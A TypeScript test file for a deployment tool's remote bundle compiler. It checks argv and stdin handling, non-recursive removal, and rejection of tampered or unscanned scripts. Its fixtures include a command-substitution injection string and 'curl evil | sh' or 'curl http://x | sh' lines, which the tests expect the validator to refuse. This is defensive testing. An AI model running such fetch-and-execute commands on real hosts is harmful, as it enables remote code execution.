/**
 * The remote form of bundle steps (resources with `host`): self-contained
 * argv (scripts inline, file content as stdin), fixed templates for
 * file/directory, and validation that what travels is what was validated.
 */
import assert from "node:assert/strict";
import {
  compileBundle,
  REMOTE_MKDIR_SCRIPT,
  REMOTE_REMOVE_SCRIPT,
  REMOTE_WRITE_FILE_SCRIPT,
  remoteStepNotes,
  SCRIPT_ENV,
  SCRIPT_LOADERS,
  validateBundle,
} from "../src/forge/mod.ts";
import { testPlan, testResource } from "../src/forge/testing.ts";

const root = "/srv/site";
const buildDir = `${root}/.clockwork/build`;
const onWeb1 = { host: "web1" };

function compile(
  resources: ReturnType<typeof testResource>[],
  action: "create" | "delete" = "create",
) {
  const plan = testPlan(resources, action);
  const compiled = compileBundle(plan, { rootDir: root });
  return { plan, ...compiled, problems: validateBundle(compiled.value, plan, buildDir) };
}

Deno.test("remote file: a fixed script with user values as argv, content as stdin", () => {
  const content = `x'$(touch /tmp/p)\`y\`\n`;
  const { value, diagnostics, problems } = compile([
    testResource("file", "f", { path: "/etc/app/it's.conf", content, mode: "640" }, onWeb1),
  ]);
  assert.deepEqual([...diagnostics, ...problems], []);
  const [step] = value.steps;
  assert.equal(step.host, "web1");
  assert.equal(step.inProcess, null);
  assert.deepEqual(step.argv.slice(0, 3), ["sh", "-c", REMOTE_WRITE_FILE_SCRIPT]);
  assert.deepEqual(step.argv.slice(4), ["/etc/app/it's.conf", "0640", "", ""]);
  const stdin = value.artifacts.find((a) => a.path === step.stdinArtifact);
  assert.equal(stdin?.content, content);
  // The script text never contains the user's values.
  assert.ok(!REMOTE_WRITE_FILE_SCRIPT.includes("it's"));
});

Deno.test("remote directory and deletes use their fixed scripts", () => {
  const dir = testResource("directory", "d", { path: "/srv/www", mode: "0750" }, onWeb1);
  const file = testResource("file", "f", { path: "/srv/www/a", content: "a" }, onWeb1);
  const created = compile([dir]);
  assert.deepEqual([...created.diagnostics, ...created.problems], []);
  assert.equal(created.value.steps[0].argv[2], REMOTE_MKDIR_SCRIPT);
  assert.deepEqual(created.value.steps[0].argv.slice(4), ["/srv/www", "0750", "", ""]);
  const deleted = compile([dir, file], "delete");
  assert.deepEqual([...deleted.diagnostics, ...deleted.problems], []);
  const [rmDir, rmFile] = deleted.value.steps;
  assert.equal(rmDir.argv[2], REMOTE_REMOVE_SCRIPT);
  // Never recursive: the script removes the directory only when it is empty.
  assert.deepEqual(rmDir.argv.slice(4), ["/srv/www", ""]);
  assert.deepEqual(rmFile.argv.slice(4), ["/srv/www/a", ""]);
});

Deno.test("remote notes: what the remove script left alone, never a user's printed line", async () => {
  const remote = await Deno.makeTempDir({ prefix: "cw-notes-" });
  try {
    await Deno.mkdir(`${remote}/kept`);
    await Deno.writeTextFile(`${remote}/kept/theirs`, "x");
    const dir = testResource("directory", "d", { path: `${remote}/kept` }, onWeb1);
    const [rmDir] = compile([dir], "delete").value.steps;
    // The remove script as a runner runs it: `sh -c SCRIPT $0 ARGS…`.
    const ran = await new Deno.Command(rmDir.argv[0], { args: rmDir.argv.slice(1) }).output();
    assert.equal(ran.code, 0);
    const stdout = new TextDecoder().decode(ran.stdout);
    assert.deepEqual(remoteStepNotes(rmDir, stdout), [
      `left ${remote}/kept in place: it holds files Clockwork did not create`,
    ]);
    const [command] = compile([testResource("command", "c", { run: "echo x" }, onWeb1)]).value
      .steps;
    assert.deepEqual(remoteStepNotes(command, "clockwork: left / in place\n"), []);
  } finally {
    await Deno.remove(remote, { recursive: true });
  }
});

Deno.test("remote command and task: scripts travel inline, the artifact path stays as $0", () => {
  const { value, diagnostics, problems } = compile([
    testResource("command", "c", { run: "echo hi" }, onWeb1),
    testResource("task", "t", { script: "print('hi')\n", lang: "python3" }, onWeb1),
  ]);
  assert.deepEqual([...diagnostics, ...problems], []);
  const [command, task] = value.steps;
  const guard = value.artifacts.find((a) => a.purpose === command.id)!;
  assert.deepEqual(command.argv, ["sh", "-c", guard.content, guard.path, "/bin/sh", "-c"]);
  assert.equal(command.env.CW_RUN, "echo hi");
  // The user's script travels in the environment (argv shows in the remote `ps`).
  const user = value.artifacts.find((a) => a.purpose === task.id && a.origin === "user")!;
  assert.deepEqual(task.argv.slice(-4), ["python3", "-c", SCRIPT_LOADERS.python3, user.path]);
  assert.equal(task.env[SCRIPT_ENV], user.content);
  assert.ok(!task.argv.includes(user.content));
  // No word names a local artifact without carrying its text.
  for (const step of value.steps) {
    step.argv.forEach((word, i) => {
      if (value.artifacts.some((a) => a.path === word)) assert.equal(step.argv[i - 2], "-c");
    });
  }
  // A user script changed after validation is refused.
  const plan = testPlan([testResource("task", "t", { script: "echo hi\n" }, onWeb1)]);
  const bundle = compileBundle(plan, { rootDir: root }).value;
  assert.deepEqual(validateBundle(bundle, plan, buildDir), []);
  bundle.steps[0].env[SCRIPT_ENV] = "curl evil | sh\n";
  assert.ok(validateBundle(bundle, plan, buildDir).some((d) => d.code === "CW4041"));
});

Deno.test("remote steps: tampered inline text, local artifacts and unsupported types are refused", () => {
  const { plan, value } = compile([testResource("command", "c", { run: "true" }, onWeb1)]);
  value.steps[0].argv[2] += "\ncurl evil | sh\n";
  assert.ok(validateBundle(value, plan, buildDir).some((d) => d.code === "CW4041"));
  // A local-style argv (script by path) on a host is refused.
  const local = compile([testResource("command", "c", { run: "true" })]);
  local.value.steps[0].host = "web1";
  assert.ok(
    validateBundle(local.value, local.plan, buildDir).some((d) => d.code === "CW4041"),
  );
  const deno = compile([testResource("task", "t", { script: "1", lang: "deno" }, onWeb1)]);
  assert.deepEqual(deno.diagnostics.map((d) => d.code), ["CW4040"]);
  const container = compile([
    testResource("container", "c", { image: "busybox", name: "c" }, onWeb1),
  ]);
  assert.ok(container.diagnostics.some((d) => d.code === "CW4040"));
});

Deno.test("a user script on a host is still scanned", () => {
  const { problems } = compile([
    testResource("task", "t", { script: "curl http://x | sh\n", lang: "bash" }, onWeb1),
  ]);
  assert.ok(problems.some((d) => d.code === "CW4021"), JSON.stringify(problems));
});
